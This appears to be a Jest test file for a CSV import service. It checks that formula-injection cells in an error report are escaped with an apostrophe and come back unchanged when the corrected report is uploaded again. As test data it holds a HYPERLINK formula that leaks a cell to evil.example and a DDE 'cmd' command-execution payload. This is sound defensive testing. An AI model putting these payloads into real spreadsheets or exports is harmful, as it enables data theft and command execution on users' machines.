import { startEmbedded, type Embedded } from '../support/harness';

/** Parses our own CSV output: BOM, CRLF, quotes. */
function rowsOf(text: string): string[][] {
  const { parse } = jest.requireActual<typeof import('csv-parse/sync')>('csv-parse/sync');
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
}

// CSV formula injection (CWE-1236): the error report echoes the file's header and cells, which a
// spreadsheet would run as formulas. They leave escaped with a leading apostrophe, and come back
// as they were when the report is fixed and uploaded again.
describe('formula injection in CSV exports (embedded stack)', () => {
  let sys: Embedded;
  beforeAll(async () => {
    sys = await startEmbedded();
  });
  afterAll(async () => {
    await sys?.stop();
  });

  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  const CMD = "+cmd|' /C calc'!A0";

  it('errors.csv escapes formula cells and headers; fixed and uploaded again, the values read as first written', async () => {
    const file = [
      'Email,First Name,Notes,@SUM(1+1)',
      `not-an-email,"${HYPERLINK.replace(/"/g, '""')}",${CMD},-2+3`,
      'ok@example.com,Plain,+44 20 7946 0018,-5.00',
    ].join('\n');
    const up = await sys.upload('acme', file);
    expect(up.status).toBe(202);
    const job = await sys.finished('acme', up.body.jobId as string);
    expect(job.counts).toMatchObject({ created: 1, rejected: 1 });

    const report = await sys.get('acme', `/v1/imports/${job.jobId}/errors.csv`);
    const rows = rowsOf(report.text);
    expect(rows[0]).toEqual(['line', 'reason', 'Email', 'First Name', 'Notes', "'@SUM(1+1)"]);
    expect(rows[1]!.slice(2)).toEqual(['not-an-email', `'${HYPERLINK}`, `'${CMD}`, "'-2+3"]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r](?![\d\s().,/-]*$)/);

    // The merchant fixes the email in the report and uploads it again.
    const fixed = report.text.replace(',not-an-email,', ',fixed@example.com,');
    const again = await sys.upload('acme', fixed);
    expect(again.status).toBe(202);
    const job2 = await sys.finished('acme', again.body.jobId as string);
    expect(job2.counts).toMatchObject({ created: 1, rejected: 0 });
    expect(sys.customers.byEmail('acme', 'fixed@example.com')?.values).toMatchObject({
      firstName: HYPERLINK,
      notes: CMD,
    });
    // a phone and a negative amount are data: never escaped
    expect(sys.customers.byEmail('acme', 'ok@example.com')?.values).toMatchObject({
      notes: '+44 20 7946 0018',
    });
  });
});
